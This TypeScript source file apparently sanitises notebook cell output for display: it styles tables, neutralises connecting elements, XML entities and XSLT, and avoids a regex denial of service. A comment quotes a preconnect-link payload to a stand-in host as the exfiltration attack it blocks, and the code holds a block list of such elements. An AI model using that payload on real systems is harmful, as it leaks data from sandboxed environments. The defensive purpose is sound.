import type { DisplayType } from "../../../service/links/display-link.ts";

/**
 * Without a style, a browser shows a table of a program in its oldest clothes, and black on a dark page. What the program says about its
 * own looks comes later in the page, and wins. A fragment such as `#codecell-dark` chooses a theme that is not the system's. The line height is what the dashboard counts with for the height of its frame.
 */
const styleSheet = `
:root { color-scheme: light dark; --line: light-dark(#d5dae1, #2c3644); --head: light-dark(#f3f5f8, #1b2430); }
:root:has(#codecell-light:target) { color-scheme: light; }
:root:has(#codecell-dark:target) { color-scheme: dark; }
body { margin: 8px; background: light-dark(#ffffff, #151c26); color: light-dark(#17202c, #e2e8f0); }
body, table { font: 13px/20px system-ui, sans-serif; }
table { border-collapse: collapse; border: 0; font-variant-numeric: tabular-nums; }
th, td { padding: 2px 10px; border: 1px solid var(--line); text-align: left; vertical-align: top; }
table.dataframe :is(th, td) { text-align: right; }
th { background: var(--head); font-weight: 600; }
p, pre { margin: 6px 0; }
h1, h2, h3, h4, h5, h6 { margin: 6px 0; font-size: 16px; line-height: 20px; }
pre, code { font: 12.5px/20px ui-monospace, monospace; }
img, svg { max-width: 100%; }
a { color: light-dark(#0b63c5, #7cb7ff); }
`;

const beginning = Buffer.from(
  `<!doctype html><meta charset="utf-8"><style>${styleSheet.replaceAll(/\s+/g, " ").trim()}</style>` +
    `<i hidden id="codecell-light"></i><i hidden id="codecell-dark"></i>\n`,
);

/** Elements that make a browser connect before its policy refuses what they name. Under the policy of displays they show nothing. */
const connecting = "link|iframe|frame|fencedframe|object|embed|portal";
const inHtml = new RegExp(`<(?=(?:${connecting})(?![\\w-]))`, "gi");
const inXml = new RegExp(`<(?=(?:[^\\s<>/]+:)?(?:${connecting})(?![\\w-]))`, "gi");
/** A style sheet in XSLT could make such an element after all of this. */
const styleInXml = /<\?xml-stylesheet/gi;

/**
 * Pure: the page that shows a display. A whole document of the program, and SVG, get no style.
 *
 * The attack: `<link rel=preconnect href=//WORDS.example>` or a frame of that address. No content security policy stops a browser
 * from looking the name up and connecting, so a cell without network would send words out through the browser of its operator. So these
 * elements get names that mean nothing.
 *
 * The text is written as UTF-8 again: a browser takes a byte order mark for another encoding, in which none would be found here. In SVG
 * an element may have a prefix, and an entity may hide one: a picture that declares entities becomes one that no browser shows.
 */
export function displayPage(mimeType: DisplayType, content: Uint8Array): Uint8Array {
  const text = new TextDecoder().decode(content);
  if (mimeType !== "text/html") {
    return Buffer.from(text.replaceAll("<!ENTITY", "<!NONE").replace(styleInXml, "<?no-").replace(inXml, "<no-"));
  }
  const page = Buffer.from(text.replace(inHtml, "<no-"));
  return isDocument(text) ? page : Buffer.concat([beginning, page]);
}

const space = /\s*/y;
const documentStart = /<(?:!doctype|html|head|body)\b/iy;

/**
 * Whether a document starts after space and comments. The attack: a hundred comments, for which one regular expression tries every way to
 * take several of them for one, longer than anybody waits. So each comment ends at its first `-->`, as in a browser.
 */
function isDocument(text: string): boolean {
  const start = text.slice(0, 1024);
  let at = endOf(space, start, 0);
  while (start.startsWith("<!--", at)) {
    const end = start.indexOf("-->", at + 4);
    if (end === -1) return false;
    at = endOf(space, start, end + 3);
  }
  documentStart.lastIndex = at;
  return documentStart.test(start);
}

function endOf(pattern: RegExp, text: string, at: number): number {
  pattern.lastIndex = at;
  return pattern.test(text) ? pattern.lastIndex : at;
}
